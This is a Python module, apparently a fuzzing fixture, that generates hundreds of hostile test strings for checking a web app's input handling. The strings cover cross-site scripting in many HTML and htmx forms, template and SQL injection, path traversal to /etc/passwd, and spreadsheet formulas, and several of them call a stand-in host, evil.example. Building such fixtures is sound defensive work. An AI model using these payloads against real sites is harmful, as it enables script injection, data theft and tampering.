"""Texts that try to be more than text."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

RUN = ("window.hacked=1", "alert(1)", "fetch('http://evil.example/')", "document.title='hacked'")
ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=http://evil.example/x.js>{}</script>",
    "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>", "<math><mtext></table><img src=x onerror={}>",
    "<template><img onerror={}></template>", "<style>@import 'http://evil.example/{}.css'</style>",
    "<link rel=stylesheet href=http://evil.example/?{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=http://evil.example/?{}>", "<form action=http://evil.example/?{}><button>x</button></form>",
    "<object data=javascript:{}></object>", "<embed src=http://evil.example/?{}>",
    "<video src=x onerror={}></video>", "<marquee onstart={}>x</marquee>",
    "<div hx-get=http://evil.example/ hx-trigger=load>{}</div>", "<div hx-post=/train hx-trigger=load>{}</div>",
    "<div hx-on::load={}>x</div>", "<div data-hx-on:click={}>x</div>", "<div id=card hx-swap-oob=true>{}</div>",
    "<button data-do=accept onclick={}>x</button>", "<kbd data-key-of=accept>{}</kbd>",
    "<dialog open id=help>{}</dialog>",
)  # fmt: skip
BEFORE = ("", '"', "'", '">', "'>", "--><!--", "</title>", "</textarea>", "</bdi></h2>", "</script>", "]]>", "&lt;")
ATTRIBUTES = (
    '" onmouseover="{}', "' onfocus='{}' autofocus='", '" hx-get="/train" hx-trigger="load" x="{}',
    "` onclick={} `", "' hx-trigger='load' hx-post='/undo' x='{}", '" data-do="accept" x="{}',
    '" style="background:url(//evil.example)" {}', '"}}\' hx-vals=\'{{"key": "{}', '" href="javascript:{}',
    'x" formaction="javascript:{}" x="',
)  # fmt: skip
IRIS = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "javascript://%0a{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>", "file:///etc/passwd#{}", "blob:{}",
    "//evil.example/{}", "\\\\evil.example\\{}", "http://evil.example/<script>{}</script>", "http:javascript:{}",
    'http://evil.example/" onclick="{}', "http://user@evil.example/{}", "http://evil.example/\u202e{}",
    "view-source:{}",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}{{ 7*7 }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{{7*7}}}", "{{constructor.constructor('window.hacked=1')()}}", "{# comment #}",
    "{% include 'page.html.j2' %}", "%s%n%x %(key)s", "__proto__", "constructor", "hasOwnProperty", "toString",
    "null", "undefined", "NaN", "-1", "0", "true", "[object]", "'; DROP TABLE decision; --",
    "=HYPERLINK(\"http://evil.example\")", "@SUM(1)", "../../etc/passwd", "C:\\con", "&amp;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e",
    "+ADw-script+AD4-alert(1)", "＜script＞alert(1)＜/script＞", "<scr\x00ipt>alert(1)</script>",
    "<\x0bscript>alert(1)</script>", "<!--#exec cmd=-->",
)  # fmt: skip
SCRIPTS = (
    "مرحبا <script>alert(1)</script>", "\u05e9\u05dc\u05d5\u05dd \"onload=alert(1)",
    "👩‍👩‍👧‍👦 <img src=x onerror=alert(1)>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a" * 20, "ﷺ" * 30, "한국어 日本語 ไทย",
    "İıſK", "🏴\U000e0067\U000e0062\U000e007f", "x" * 5000, "<" * 3000, "&" * 3000, '"' * 999, "W" * 500,
    "a b " * 900, "﷽" * 200,
)  # fmt: skip
UNSEEN = (
    *map(chr, range(32)), *"\x7f\x85\x9b\xad\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060",
    *"\u2066\u2067\u2068\u2069\u3164\ufeff\ufff9\ufffe\uffff",
)  # fmt: skip


def _all() -> Iterator[str]:
    yield from TEMPLATES
    yield from SCRIPTS
    yield from (f"un{c}seen <b>{c}</b>" for c in UNSEEN)
    for number, form in enumerate((*ATTRIBUTES, *IRIS)):
        yield from (form.replace("{}", RUN[(number + more) % len(RUN)]) for more in (0, 1))
    for number, (before, form) in enumerate(product(BEFORE, ELEMENTS)):
        yield before + form.replace("{}", RUN[number % len(RUN)])


def nasty(n: int = 500) -> list[str]:
    """So many, each another."""
    found = list(islice(dict.fromkeys(_all()), n))
    assert len(found) == n
    return found
